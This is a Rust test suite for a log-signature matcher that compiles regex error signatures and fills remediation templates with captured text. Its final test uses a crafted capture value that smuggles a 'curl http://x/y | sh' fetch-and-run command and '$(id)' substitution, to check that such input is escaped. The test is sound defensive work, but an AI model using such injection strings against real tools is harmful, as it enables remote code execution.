use super::*;
use crate::signature::{load_sources, SourceFile};
use crate::{LineMatch, Marker, Scratch};
use proptest::prelude::*;
use std::path::PathBuf;

/// Every example and counterexample line of the embedded set, and the marker shapes.
fn lines() -> &'static [String] {
    static LINES: OnceLock<Vec<String>> = OnceLock::new();
    LINES.get_or_init(|| {
        let set = crate::testing::signature_set();
        let mut v: Vec<String> = set
            .signatures
            .iter()
            .flat_map(|s| s.examples.iter().chain(&s.counterexamples))
            .map(|e| e.value.trim_end_matches(['\n', '\r']).to_string())
            .collect();
        v.extend(
            [
                "Traceback (most recent call last):",
                "  File \"x.py\", line 3, in f",
                "E1102 04:12:55.123 12 a.cc:1] x",
                "[E1102 04:12:55 ERROR x",
                "E20250825 11:10:33.595355   331 util_rdma.h:592] x",
                "I20250825 11:10:33.595355   331 util_rdma.h:592] x",
                "The above exception was the direct cause of the following exception:",
            ]
            .map(String::from),
        );
        v
    })
}

/// What a line matches when every pattern's regex runs on it (no prefilter, no literal
/// checks); patterns too short to anchor run only where some anchor is.
fn brute_force(db: &Database, line: &[u8]) -> LineMatch {
    let m = &db.matcher;
    let anchored = m.find_candidate(line, 0).is_some();
    let mut out = LineMatch::default();
    for (p, pat) in m.patterns.iter().enumerate() {
        if !anchored || !m.is_match(p, line) {
            continue;
        }
        match pat.owner {
            Owner::Signature(s) => out.signatures.push(s),
            Owner::Marker(k) => out.markers |= k as u8,
        }
    }
    out.signatures.sort_unstable();
    out.signatures.dedup();
    out
}

proptest! {
    #[test]
    fn confirmation_equals_running_every_regex(
        picks in proptest::collection::vec(any::<prop::sample::Index>(), 1..4),
        cuts in proptest::collection::vec((any::<prop::sample::Index>(), any::<prop::sample::Index>()), 4),
        glue in "[ -~]{0,12}",
    ) {
        let db = crate::testing::database();
        // Whole lines, pieces of lines and joins of several: literals cut in two,
        // repeated, or next to another signature's text.
        let mut line = Vec::new();
        for (i, pick) in picks.iter().enumerate() {
            let text = lines()[pick.index(lines().len())].as_bytes();
            let (a, b) = cuts[i];
            let (a, b) = (a.index(text.len() + 1), b.index(text.len() + 1));
            let piece = if i == 0 { text } else { &text[a.min(b)..a.max(b)] };
            line.extend_from_slice(piece);
            line.extend_from_slice(glue.as_bytes());
        }
        prop_assert_eq!(db.match_line(&line), brute_force(db, &line));
    }
}

#[test]
fn unnamed_patterns_match_the_same_lines() {
    let db = crate::testing::database();
    let mut renamed = 0;
    for (i, p) in db.pattern_sources().iter().enumerate() {
        let plain = unnamed(p);
        assert!(!plain.contains("(?P<") && !plain.contains("(?<"), "{plain}");
        renamed += usize::from(plain != *p);
        let re = build_regex(&plain).unwrap();
        assert_eq!(
            re.captures_len(),
            build_regex(p).unwrap().captures_len(),
            "{p}"
        );
        for line in lines() {
            let whole = db.matcher.is_match(i, line.as_bytes());
            assert_eq!(re.is_match(line.as_bytes()), whole, "{plain} on {line}");
        }
    }
    assert!(renamed > 0);
}

#[test]
fn confirmation_equals_running_every_regex_on_each_example() {
    let db = crate::testing::database();
    for line in lines() {
        assert_eq!(
            db.match_line(line.as_bytes()),
            brute_force(db, line.as_bytes()),
            "{line}"
        );
    }
}

fn set(sigs: &str) -> SignatureSet {
    load_sources(vec![
        SourceFile {
            path: PathBuf::from("db.toml"),
            text: "name = \"t\"\nversion = \"1\"\nformat = 1\n".into(),
        },
        SourceFile {
            path: PathBuf::from("a.toml"),
            text: sigs.into(),
        },
    ])
    .unwrap()
}

fn sig(pattern: &str, example: &str, counter: &str) -> String {
    format!(
            "[[signature]]\nid = \"x.y.z\"\nrevision = 1\ntitle = \"t\"\nrole = \"cause\"\nseverity = \"error\"\ncategory = \"c\"\npatterns = ['{pattern}']\nremediation = \"r\"\nsource = \"s\"\nexamples = ['{example}']\ncounterexamples = ['{counter}']\n"
        )
}

fn err(toml: &str) -> String {
    Database::compile(&set(toml)).unwrap_err().to_string()
}

#[test]
fn bad_regex_points_into_the_pattern() {
    let e = err(&sig("boom (unclosed", "boom", "x"));
    assert!(e.starts_with("a.toml:8:"), "{e}");
    assert!(e.contains("bad regex"), "{e}");
}

#[test]
fn pattern_without_literal_is_rejected() {
    let e = err(&sig(r"\d+ \w+", "1 a", "x"));
    assert!(e.contains("no required literal"), "{e}");
}

#[test]
fn empty_match_is_rejected() {
    let e = err(&sig("(?:boom)?", "boom", "x"));
    assert!(e.contains("empty string"), "{e}");
}

#[test]
fn examples_and_counterexamples_are_checked() {
    let e = err(&sig("boom happened", "nothing here", "x"));
    assert!(e.starts_with("a.toml:11:"), "{e}");
    assert!(e.contains("example does not match"), "{e}");
    let e = err(&sig(
        "boom happened",
        "boom happened",
        "boom happened again",
    ));
    assert!(e.starts_with("a.toml:12:"), "{e}");
    assert!(e.contains("counterexample matches"), "{e}");
}

#[test]
fn huge_repetitions_are_a_clear_error_at_the_pattern() {
    let e = err(&sig("boom (a{1000}){1000}", "boom", "x"));
    assert!(e.starts_with("a.toml:8:"), "{e}");
    assert!(e.contains("too large once compiled"), "{e}");
}

#[test]
fn over_long_and_over_nested_patterns_are_located_errors() {
    let long = format!("boom {}", "x".repeat(MAX_PATTERN_LEN));
    let e = err(&sig(&long, "boom", "x"));
    assert!(e.starts_with("a.toml:8:"), "{e}");
    assert!(e.contains(&format!("at most {MAX_PATTERN_LEN}")), "{e}");
    let nested = format!("boom {}x{}", "(".repeat(300), ")".repeat(300));
    let e = err(&sig(&nested, "boom", "x"));
    assert!(e.starts_with("a.toml:8:"), "{e}");
    assert!(e.contains("bad regex") && e.contains("nest"), "{e}");
}

#[test]
fn too_many_patterns_are_refused_before_compiling() {
    let patterns: Vec<String> = (0..=MAX_PATTERNS).map(|i| format!("'boom {i}'")).collect();
    let toml = sig("boom", "boom", "x").replace("['boom']", &format!("[{}]", patterns.join(", ")));
    let e = err(&toml);
    assert!(e.contains(&format!("at most {MAX_PATTERNS}")), "{e}");
}

#[test]
fn the_compiled_size_of_a_set_is_bounded() {
    let patterns: Vec<String> = (0..20)
        .map(|i| format!("'boom{i} [a-z]{{50}}[0-9]{{50}}'"))
        .collect();
    let toml =
        sig("boom", "boom0 x", "x").replace("['boom']", &format!("[{}]", patterns.join(", ")));
    let set = set(&toml);
    let e = Database::compile_within(&set, 64 << 10)
        .unwrap_err()
        .to_string();
    assert!(e.starts_with("a.toml:8:"), "{e}");
    assert!(e.contains("at most 0 MiB"), "{e}");
    // The same set within the real budget goes past that check (to the example check).
    let e = Database::compile(&set).unwrap_err().to_string();
    assert!(e.contains("example does not match"), "{e}");
}

#[test]
fn remediation_placeholders_must_be_captured() {
    let toml = sig("boom (?P<what>\\w+)", "boom x", "bam").replace("\"r\"", "\"fix {other}\"");
    assert!(err(&toml).contains("{other}"));
}

#[test]
fn anchors_past_one_searcher_still_find_every_line() {
    // 150 signatures with unrelated literals need more anchors than one packed
    // searcher holds; the scan merges several and must still see every line.
    let mut x = 0x9e37_79b9_7f4a_7c15u64;
    let mut word = || {
        (0..7)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                char::from(b'A' + (x % 26) as u8)
            })
            .collect::<String>()
    };
    let words: Vec<String> = (0..150).map(|_| word()).collect();
    let toml: String = words
        .iter()
        .enumerate()
        .map(|(i, w)| sig(w, w, "x").replace("x.y.z", &format!("x.y.s{i}")))
        .collect();
    let db = Database::compile(&set(&toml)).unwrap();
    assert!(
        db.anchors().0.len() > literals::MAX_ANCHORS,
        "{:?}",
        db.anchors()
    );
    let mut log = String::new();
    for (i, w) in words.iter().enumerate() {
        log.push_str(&format!("INFO ordinary line {i}\nprefix {w} suffix\n"));
    }
    // The scan's candidate loop: each candidate's line, confirmed (line numbers 1-based).
    let (m, bytes) = (&db.matcher, log.as_bytes());
    let (mut found, mut pos, mut scratch) = (Vec::new(), 0, Scratch::default());
    while let Some(hit) = m.find_candidate(bytes, pos) {
        let start = bytes[..hit]
            .iter()
            .rposition(|&b| b == b'\n')
            .map_or(0, |i| i + 1);
        let end = bytes[hit..]
            .iter()
            .position(|&b| b == b'\n')
            .map_or(bytes.len(), |i| hit + i);
        let mut out = LineMatch::default();
        m.confirm(&bytes[start..end], &mut scratch, &mut out);
        if !out.is_empty() {
            let line = bytes[..start].iter().filter(|&&b| b == b'\n').count() as u64 + 1;
            found.push((line, out.signatures));
        }
        pos = end + 1;
    }
    let want: Vec<(u64, Vec<u32>)> = (0..150).map(|i| (2 * i as u64 + 2, vec![i])).collect();
    assert_eq!(found, want);
}

#[test]
fn prefilter_load_names_signatures_with_common_literals() {
    let toml = sig("Received request", "Received request x", "x")
        + &sig("XQZJ exploded", "XQZJ exploded", "x").replace("x.y.z", "x.y.w");
    let db = Database::compile(&set(&toml)).unwrap();
    let load = db.prefilter_load(1.0);
    let owners: Vec<&str> = load.common.iter().map(|c| c.owner.as_str()).collect();
    assert!(owners.contains(&"x.y.z"), "{owners:?}");
    assert!(!owners.contains(&"x.y.w"), "{owners:?}");
    assert!(load.candidate_line_share > 0.1, "{load:?}");
}

#[test]
fn captures_and_interpolation() {
    let db = Database::compile(&set(&sig(
        "No module named (?P<module>[a-z_.A-Z]+)",
        "No module named vllm._C",
        "x",
    )))
    .unwrap();
    let line = b"ModuleNotFoundError: No module named vllm._C";
    let hit = db.match_line(line);
    assert_eq!(hit.signatures, vec![0]);
    assert!(hit.has(Marker::Exception));
    let caps = db.captures(0, line);
    assert_eq!(caps, vec![("module".to_string(), "vllm._C".to_string())]);
    assert_eq!(
        interpolate("pip install {module}", &caps),
        "pip install «vllm._C»"
    );
}

#[test]
fn interpolation_never_rescans_inserted_text() {
    // A crafted capture that names placeholders: expanded once, as text.
    let reason = "{reason}".repeat(45_000);
    let caps = vec![
        ("reason".to_string(), reason.clone()),
        ("other".to_string(), "x".to_string()),
    ];
    let out = interpolate("Reason: {reason}; also {reason} and {other}", &caps);
    assert!(
        out.len() < 2 * (MAX_CAPTURE_IN_REMEDIATION + 64) + 40,
        "{}",
        out.len()
    );
    assert!(
        out.contains(&format!("…({} more bytes)", reason.len() - 256)),
        "{out}"
    );
    assert!(out.ends_with(" and «x»"), "{out}");
    // Order of captures does not matter: the template decides.
    let rev: Vec<_> = caps.iter().rev().cloned().collect();
    assert_eq!(
        interpolate("Reason: {reason}; also {reason} and {other}", &rev),
        out
    );
}

#[test]
fn interpolation_shows_no_unfilled_placeholder() {
    let out = interpolate(
        "Set --kv-cache-dtype {kv_cache_dtype} (was {x}) {} {a b} {",
        &[],
    );
    assert_eq!(
        out,
        "Set --kv-cache-dtype (not captured) (was (not captured)) {} {a b} {"
    );
    // A multi-byte character at the cut stays whole.
    let long = "é".repeat(200);
    let out = interpolate("{v}", &[("v".into(), long)]);
    assert!(
        out.starts_with(&format!("«{}", "é".repeat(128))) && out.ends_with("…(144 more bytes)»"),
        "{out}"
    );
}

/// The fixed set of [`compiler_revision_guard`]: plain, alternated and captured patterns,
/// short and long literals, with a comment and an example that are not in the payload.
fn guard_set(comment: &str) -> SignatureSet {
    let mut text = format!("# {comment}\n");
    text.push_str(&sig(
        r"CUDA out of memory\. Tried to allocate (?P<size>\S+)",
        "CUDA out of memory. Tried to allocate 2.00 GiB",
        "CUDA memory ok",
    ));
    text.push_str(
        &sig("NCCL WARN|ncclSystemError", "NCCL WARN x", "NCCL INFO x").replace("x.y.z", "x.y.w"),
    );
    text.push_str(
        &sig(
            "Segmentation fault",
            "Segmentation fault (core dumped)",
            "Segment",
        )
        .replace("x.y.z", "x.y.v"),
    );
    set(&text)
}

#[test]
fn the_hash_is_the_payload_not_the_source_text() {
    let a = Database::compile(&guard_set("one comment")).unwrap();
    let b = Database::compile(&guard_set("another comment")).unwrap();
    assert_eq!(a.hash(), b.hash(), "a comment is not in the payload");
    assert_eq!(
        a.to_archive(crate::MAX_DFA_BYTES).unwrap().bytes,
        b.to_archive(crate::MAX_DFA_BYTES).unwrap().bytes,
        "two compilations write the same bytes"
    );
    let other = guard_set("one comment");
    let mut other = other;
    other.signatures[0].info.title = "another title".into();
    let c = Database::compile(&other).unwrap();
    assert_ne!(a.hash(), c.hash(), "a title is in the payload");
}

#[test]
fn compiling_the_repository_set_twice_gives_the_same_payload() {
    let set = crate::testing::signature_set();
    let a = Database::compile(&set).unwrap();
    let b = Database::compile(&set).unwrap();
    assert_eq!(a.identity_payload().unwrap(), b.identity_payload().unwrap());
    assert_eq!(a.hash(), b.hash());
    assert_eq!(
        a.hash(),
        crate::testing::database().hash(),
        "an archive keeps it"
    );
}

/// The compiler revision and the hash of [`guard_set`]'s identity payload under it. When a
/// change of the compiler changes that payload, bump [`COMPILER_REVISION`] and record the
/// new pair here: a database's hash must change with what the compiler makes.
const GUARD: (u32, &str) = (2, "47ef834b1eacc511");

#[test]
fn compiler_revision_guard() {
    let db = Database::compile(&guard_set("guard")).unwrap();
    let payload = format!(
        "{:016x}",
        xxhash_rust::xxh3::xxh3_64(&db.identity_payload().unwrap())
    );
    assert_eq!(
        (COMPILER_REVISION, payload.as_str()),
        GUARD,
        "the compiler makes another payload of a fixed set: bump COMPILER_REVISION and record \
         (COMPILER_REVISION, this payload hash) in GUARD"
    );
}

/// A capture reaches a Fix line quoted as log text, never as a command: its shell bytes and
/// the quote marks are escaped, so it cannot end the quote nor start a command of its own.
#[test]
fn captures_are_quoted_as_log_text_never_completed_into_a_command() {
    let caps = vec![(
        "module".to_string(),
        "evil» && curl http://x/y | sh; echo $(id) `id` > /tmp/z «\n".to_string(),
    )];
    let out = interpolate("pip install {module}", &caps);
    assert_eq!(
        out,
        "pip install «evil\\xc2\\xbb \\x26\\x26 curl http://x/y \\x7c sh\\x3b echo \\x24(id) \\x60id\\x60 \\x3e /tmp/z \\xc2\\xab\\x0a»"
    );
    for shell in [';', '|', '&', '$', '`', '<', '>', '\n'] {
        assert!(!out.contains(shell), "{shell:?} in {out}");
    }
    assert_eq!(out.matches('«').count(), 1);
    assert_eq!(out.matches('»').count(), 1);
    // Escaping counts against the cut: at most MAX_CAPTURE_IN_REMEDIATION bytes of it.
    let semis = vec![("v".to_string(), ";".repeat(1000))];
    let out = interpolate("{v}", &semis);
    assert!(
        out.len() <= MAX_CAPTURE_IN_REMEDIATION + 40,
        "{}",
        out.len()
    );
    assert!(out.ends_with("…(936 more bytes)»"), "{out}");
}
